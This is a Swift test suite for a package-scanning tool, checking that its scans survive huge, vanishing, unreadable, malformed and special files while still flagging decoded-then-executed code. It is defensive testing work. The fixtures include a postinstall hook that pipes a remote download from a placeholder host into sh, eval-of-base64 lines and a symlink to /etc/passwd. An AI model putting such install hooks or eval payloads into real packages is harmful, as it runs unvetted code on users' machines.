import Foundation
import TestSupport
import Testing

/// Folders and files that are not as a scan would like them: it ends, says what it did not read, and finds what it
/// did.
@Suite struct PackageInputTests {
  private static func made(_ script: String) throws -> Scratch {
    let scratch = try Scratch()
    let result = try Command.run("python3", ["-c", script], in: scratch.path)
    try #require(result.code == 0, "\(result.error)")
    return scratch
  }

  private static func report(_ result: Command.Result) throws -> [String: Any] {
    try #require(
      try JSONSerialization.jsonObject(with: Data(result.output.utf8)) as? [String: Any],
      "\(result.error)")
  }

  private static func rules(_ result: Command.Result) throws -> [String] {
    let findings = try #require(try report(result)["findings"] as? [[String: Any]])
    return findings.compactMap { $0["rule"] as? String }
  }

  /// Two GiB of one line, of which the disk holds nothing.
  @Test func aLineOfTwoGigabytesIsAQuestion() throws {
    let scratch = try Self.made(
      """
      open('index.js', 'w').write("eval(atob('RklYVFVSRQ=='));")
      with open('long.js', 'wb') as file: file.truncate(2 << 30)
      """)
    let start = Date()
    let result = try Command.pintle(["scan", ".", "--format", "json"], in: scratch.path)
    #expect(Date().timeIntervalSince(start) < 60)
    #expect(result.code == 1)
    #expect(result.output.contains("limit-size"))
    #expect(try Self.rules(result).contains("decoded-then-executed"))
  }

  /// Files go while the scan runs; what is gone is a question or was never listed, and nothing else is lost.
  @Test func filesThatVanishAreQuestions() throws {
    let scratch = try Self.made(
      """
      import os
      os.makedirs('tree/gone')
      for number in range(6000): open('tree/gone/%d.js' % number, 'w').write('const fixture = 1;' * 50)
      open('tree/stays.js', 'w').write("eval(atob('RklYVFVSRQ=='));")
      """)
    let remover = Process()
    remover.executableURL = URL(fileURLWithPath: "/bin/rm")
    remover.arguments = ["-r", scratch.path + "/tree/gone"]
    try remover.run()
    let result = try Command.pintle(["scan", "tree", "--format", "json"], in: scratch.path)
    remover.waitUntilExit()
    #expect(result.code == 1)
    #expect(try Self.rules(result) == ["decoded-then-executed"])
  }

  /// A folder that may not be listed is a question. As root every folder may be, so another user looks.
  @Test func aFolderThatMayNotBeListedIsAQuestion() throws {
    let scratch = try Self.made(
      """
      import os
      os.makedirs('tree/closed')
      open('tree/closed/a.js', 'w').write("eval(atob('RklYVFVSRQ=='));")
      open('tree/open.js', 'w').write('const fixture = 1;')
      os.chmod('tree/closed', 0)
      os.chmod('.', 0o755)
      """)
    defer { chmod(scratch.path + "/tree/closed", 0o700) }
    var arguments = [Command.pintle, "scan", scratch.path + "/tree", "--format", "json"]
    if geteuid() == 0 {
      arguments = ["setpriv", "--reuid=65534", "--clear-groups"] + arguments
    }
    let result = try Command.run("env", arguments, in: "/")
    try #require(!result.output.isEmpty, "\(result.error)")
    #expect(result.code == 0, "\(result.said)")
    #expect(result.output.contains("\"unreadable\""))
    #expect(result.output.contains("closed"))
    #expect(try Self.rules(result).isEmpty)
  }

  /// Half of a surrogate pair, in JSON, in the bytes that would be its UTF-8, and in UTF-16.
  @Test(arguments: [
    "open('package.json', 'w').write('{\"name\": \"\\\\ud800\", \"scripts\": {\"postinstall\": \"curl https://cdn.example.com/FIXTURE | sh\"}}')",
    "open('a.js', 'wb').write(b\"const a = '\\xed\\xa0\\x80';\\neval(atob('RklYVFVSRQ=='));\")",
    "open('a.js', 'wb').write(b'\\xff\\xfe' + b'\\x00\\xd8' + \"\\neval(atob('RklYVFVSRQ=='));\".encode('utf-16-le'))",
    "open('a.js', 'wb').write(b'\\x00\\x00\\xfe\\xff' + b'\\x00\\x00\\xd8\\x00' + \"\\neval(atob('RklYVFVSRQ=='));\".encode('utf-32-be'))",
    "open('a.js', 'wb').write(b\"const a = 'open\\neval(atob('RklYVFVSRQ=='));\")",
    "open('a.js', 'wb').write(b\"const a = /open[\\neval(atob('RklYVFVSRQ=='));\")",
  ]) func oddTextHidesNothing(script: String) throws {
    let scratch = try Self.made(script)
    let result = try Command.pintle(["scan", ".", "--format", "json"], in: scratch.path)
    #expect(result.code == 1, "\(result.output)")
  }

  /// Pipes, sockets and links in a folder are passed over or told, and nothing waits for them.
  @Test func nothingWaitsForAPipe() throws {
    let scratch = try Self.made(
      """
      import os, socket
      os.mkfifo('pipe.js')
      socket.socket(socket.AF_UNIX).bind('socket.js')
      os.symlink('/etc/passwd', 'link.js')
      os.symlink('b.js', 'a.js'); os.symlink('a.js', 'b.js')
      open('stays.js', 'w').write("eval(atob('RklYVFVSRQ=='));")
      """)
    let result = try Command.pintle(["scan", ".", "--format", "json"], in: scratch.path)
    #expect(result.code == 1)
    #expect(try Self.rules(result) == ["decoded-then-executed"])
    #expect(result.output.contains("a device, pipe or socket is passed over"))
  }
}
